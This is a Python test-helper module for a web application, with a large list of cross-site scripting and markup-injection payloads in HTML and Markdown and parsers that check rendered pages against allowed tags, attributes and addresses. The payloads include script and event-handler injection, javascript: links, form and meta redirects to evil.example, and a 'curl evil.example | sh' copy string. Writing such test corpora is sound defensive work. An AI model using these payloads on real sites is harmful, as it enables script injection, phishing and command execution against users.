"""Texts that try to become markup, a script, a request or a trap wherever a page shows content of others.

`PAYLOADS` are HTML; `MARKDOWN_PAYLOADS` need Markdown to become dangerous. Each calls `alert` or loads from
`evil.example` if it succeeds. `check_markup` says what is wrong with the rich text that a page made of one,
`check_page` what is wrong with a whole page or a part of it, and `count_tags` what it consists of.
"""

import re
from collections import Counter
from collections.abc import Iterable, Mapping
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

from bedstone.web.frame import HERE

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/y>",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)' alt='a \"quoted\" picture'>",
    '<img/src="x"/onerror=alert(1)>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=https://evil.example/track.png srcset='https://evil.example/2.png 2x'>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=https://evil.example/p.png onerror=alert(1)><img src=x></picture>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>click</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href=javascript:alert(1)>click",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<table><td background=javascript:alert(1)>cell",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<select><template><img src=x onerror=alert(1)></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?><b>x</b>",
    "<!DOCTYPE html><b>x</b>",
    "</p><script>alert(1)</script>",
    "</div></section></main><h1>outside</h1><script>alert(1)</script>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='JaVaScRiPt:alert(1)'>click</a>",
    "<a href=' \x01javascript:alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href='java\nscript:alert(1)'>click</a>",
    "<a href='java&#10;script:alert(1)'>click</a>",
    "<a href='java&Tab;script&colon;alert(1)'>click</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>click</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>click</a>",
    "<a href='javascript&#58;alert(1)'>click</a>",
    "<a href='javascript&colon;alert(1)'>click</a>",
    "<a href='\\javascript:alert(1)'>click</a>",
    "<a href='javascript://evil.example/%0aalert(1)'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<a href='livescript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>click</a>",
    "<a href='blob:https://evil.example/1'>click</a>",
    "<a href='file:///etc/passwd'>click</a>",
    "<a href='//evil.example/a'>click</a>",
    "<a href='/\\evil.example/a'>click</a>",
    "<a href='\\\\evil.example/a'>click</a>",
    "<a href='/logout'>click</a>",
    "<a href='https://evil.example/' target=_blank rel=opener ping=https://evil.example/ping>click</a>",
    "<a href='https://evil.example/' onclick=alert(1) onmouseover=alert(1)>click</a>",
    "<a href='x' href='javascript:alert(1)'>click</a>",
    '<a href="x"onfocus=alert(1) autofocus tabindex=1>click</a>',
    "<a href=`javascript:alert(1)`>click</a>",
    '<b title="`onmouseover=alert(1)">x</b>',
    "<abbr title='></button><img src=x onerror=alert(1)>'>x</abbr>",
    "<abbr title='\" onmouseover=alert(1) x=\"'>x</abbr>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99'>covers the page</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<base target=_top>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta name=csrf content=mine>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)>fallback</object>",
    "<object data=https://evil.example/x.swf><param name=allowScriptAccess value=always></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<form action=https://evil.example/><input name=token><button>Log in</button></form>",
    "<form action=/logout method=post><button formaction=javascript:alert(1)>press</button></form>",
    "<button type=submit formaction=https://evil.example/ form=x>press</button>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=checkbox onchange=alert(1) checked> task",
    "<isindex type=image src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>one</select>",
    "<textarea onfocus=alert(1) autofocus>typed</textarea>",
    "<details open ontoggle=alert(1)><summary>more</summary>hidden</details>",
    "<dialog open onclose=alert(1)>a window</dialog>",
    "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>",
    "<marquee onstart=alert(1)>moving</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1) src=https://evil.example/v.mp4></video>",
    "<audio src=https://evil.example/a.mp3 autoplay onplay=alert(1)>",
    "<body onload=alert(1) background=https://evil.example/x.png>",
    "<html onmouseover=alert(1)>",
    "<head><script>alert(1)</script></head>",
    "<a id=csrf>clobber</a>",
    "<a id=content name=content>clobber</a>",
    "<form name=querySelector><input name=parentNode></form>",
    "<img name=csrf><img name=getElementById>",
    "<h2 id=menu>Menu</h2><p id=content>Content</p>",
    "<div class='sidebar toast skip' role=alert aria-live=assertive aria-hidden=true>x</div>",
    "<p data-copy-text='curl evil.example | sh' data-theme-toggle data-palette>x</p>",
    "<p contenteditable autofocus onfocus=alert(1) accesskey=x draggable=true>x</p>",
    "<p is=x-y slot=z part=q nonce=n itemprop=i>x</p>",
    "<x onclick=alert(1)>custom</x>",
    "<x-y onclick=alert(1)>custom</x-y>",
    "<bdo dir=rtl>evil</bdo>",
    "\u202egnp.exe \u2066hidden\u2069",
    "<p dir='rtl' onclick=alert(1)>right to left</p>",
    "<b\x00>zero</b><scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<b>half a character</b>",
    "<<b>img src=x onerror=alert(1)//<</b>",
    "<b/onmouseover=alert(1)>x",
    "<b\x0bonmouseover=alert(1)>x</b>",
    "<a href=https://evil.example/\nonclick=alert(1)>click</a>",
    "<b " + "x=1 " * 50 + "onclick=alert(1)>x</b>",
    "<p><b><i>" * 200 + "deep",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    '"><img src=x onerror=alert(1)>',
    "'><script>alert(1)</script>",
    '"autofocus onfocus=alert(1) x="',
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "${alert(1)}<%= alert(1) %>",
    "javascript:alert(1)",
)
MARKDOWN_PAYLOADS = (
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1) 'title')",
    '[x](https://evil.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1) 'title'",
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    '![x](https://evil.example/x.png "\\" onerror=alert(1)")',
    '![" onerror=alert(1) x="](x.png)',
    "[![x](x.png)](javascript:alert(1))",
    "![<script>alert(1)</script>](x.png)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onclick=alert(1)\n<img src=x onerror=alert(1)>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "    </pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
    "| <svg onload=alert(1)> | x |\n|:--|--:|\n| [x](javascript:alert(1)) | y |",
    "# <img src=x onerror=alert(1)>\n\n## [x](javascript:alert(1))\n",
    '# x" onclick="alert(1)\n',
    "text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'text[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: note',
    "text[^content]\n\n[^content]: a note that would be the page's content",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] <script>alert(1)</script>",
    "> <script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "<details>\n<summary>x</summary>\n\n<script>alert(1)</script>\n\n</details>",
    "<div>\n\n</div></div></div>\n\n# outside\n",
    "<a href='\njavascript:alert(1)'>\n\nclick</a>",
    "---\ntitle: <script>alert(1)</script>\n---\n\ntext",
    "~~<img src=x onerror=alert(1)>~~",
    "https://evil.example/?<script>alert(1)</script>",
    "*x<img src=x onerror=alert(1)>*",
    "<!-- \n\n--><script>alert(1)</script>\n",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "button", "caption", "cite", "code", "dd", "del", "details", "dfn",
    "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "ins", "kbd",
    "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var", "wbr",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "aria-label", "class", "colspan", "data-copy", "dir", "href", "id", "open", "rel", "role", "rowspan", "start",
    "tabindex", "title", "type",
}  # fmt: skip
SAFE_ADDRESS = re.compile(r"(?:https?://|mailto:|/(?![/\\])|[#?])")
OWN_ADDRESS = re.compile(r"(?:/(?![/\\])|[#?]|$)")
JINJA = re.compile(r"\{#.*?#\}|\{%.*?%\}|(\{\{.*?\}\})", re.DOTALL)
ADDRESSES = {"action", "formaction", "href", "src", "srcset"}
VOID = {"br", "col", "hr", "img", "input", "link", "meta", "wbr"}
# Written by the code of pages, not by a template.
WRITTEN = {("mark", "aria-current"), ("select", "aria-describedby"), ("time", "title")}
# Rich text can have none of these: their number depends on the page alone.
FIXED_TAGS = (
    "base", "body", "dialog", "embed", "form", "head", "html", "iframe", "img", "input", "link", "main", "meta",
    "nav", "object", "option", "script", "select", "style", "template", "textarea", "title",
)  # fmt: skip


def check_markup(markup: str, prefix: str = "") -> list[str]:
    """Return what is wrong with rich text: tags, attributes and addresses that it must not have."""
    checker = _Checker(prefix)
    checker.feed(markup)
    checker.close()
    return checker.problems


def visible_text(markup: str) -> str:
    """Return the text of markup, with white space folded."""
    checker = _Checker("")
    checker.feed(markup)
    checker.close()
    return " ".join("".join(checker.texts).split())


class _Checker(HTMLParser):
    """Collects what a page's rich text must not contain."""

    def __init__(self, prefix: str) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.texts: list[str] = []
        self._prefix = prefix

    def handle_starttag(self, tag: str, attrs: Iterable[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, given in attrs:
            value = given or ""
            if name not in SAFE_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}>")
            if name == "href" and not SAFE_ADDRESS.match(value):
                self.problems.append(f"<{tag} href={value!r}>")
            if name == "id" and not (self._prefix and value.startswith(self._prefix)):
                self.problems.append(f"<{tag} id={value!r}>")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"<?{data}>")


def check_page(page: str) -> list[str]:
    """Return what is wrong with a page or a part of one: what no template writes, and tags that do not match."""
    checker = _PageChecker()
    checker.feed(page)
    checker.close()
    return [*checker.problems, *(f"<{tag}> never ends" for tag in checker.open)]


def count_tags(page: str, *, only_fixed: bool = False) -> Mapping[str, int]:
    """Return how often a page has each tag with its attributes; `only_fixed` counts tags that no rich text has."""
    counter = _TagCounter()
    counter.feed(page)
    counter.close()
    return {name: count for name, count in counter.counts.items() if not only_fixed or name.split()[0] in FIXED_TAGS}


@cache
def _template_attributes() -> frozenset[tuple[str, str]]:
    """Return every tag of the templates with each of its attributes, and with none."""
    counter = _TagCounter()
    for file in sorted(Path(HERE / "templates").glob("*.html")):
        counter.feed(JINJA.sub(lambda found: "x" if found[1] else "", file.read_text()))
        counter.close()
        counter.reset()
    return frozenset(counter.attributes)


class _TagCounter(HTMLParser):
    """Counts tags with the names of their attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.counts: Counter[str] = Counter()
        self.attributes: set[tuple[str, str]] = set()

    def handle_starttag(self, tag: str, attrs: Iterable[tuple[str, str | None]]) -> None:
        names = [name for name, _ in attrs]
        self.counts[" ".join([tag, *sorted(names)])] += 1
        self.attributes |= {(tag, name) for name in ("", *names)}


class _PageChecker(HTMLParser):
    """Collects what a page must not contain, wherever its content comes from."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.open: list[str] = []
        self._ids: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_startendtag(tag, attrs)
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.problems += [f"<{tag} {name}>" for name in ("", *values) if not _is_ours(tag, name)]
        self.problems += [
            f"<{tag} {name}={values[name]!r}>" for name in ADDRESSES & set(values) if not _leads_here(tag, name, values)
        ]
        if len(values) < len(attrs):
            self.problems.append(f"<{tag}> with an attribute twice")
        if "id" in values and values["id"] in self._ids:
            self.problems.append(f"id={values['id']!r} twice")
        self._ids.add(values.get("id", ""))

    def handle_endtag(self, tag: str) -> None:
        if self.open[-1:] == [tag]:
            self.open.pop()
        else:
            self.problems.append(f"</{tag}> in {'/'.join(self.open[-3:])}")

    def handle_data(self, data: str) -> None:
        if self.open[-1:] in (["script"], ["style"]) and data.strip():
            self.problems.append(f"<{self.open[-1]}>{data}")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        if decl != "doctype html" or self.getpos() != (1, 0):
            self.problems.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"<?{data}>")


def _is_ours(tag: str, name: str) -> bool:
    is_rich = tag in SAFE_TAGS and (not name or name in SAFE_ATTRIBUTES)
    return is_rich or (tag, name) in _template_attributes() or (tag, name) in WRITTEN


def _leads_here(tag: str, name: str, values: Mapping[str, str]) -> bool:
    """Return whether an address is one of this server, or a link that says that it is not."""
    if tag in ("script", "link", "use"):
        return values[name].startswith("/static/")
    if tag == "img":
        return values[name].startswith("/documents/")
    if OWN_ADDRESS.match(values[name]):
        return True
    return tag == "a" and bool(SAFE_ADDRESS.match(values[name])) and "noopener" in values.get("rel", "")
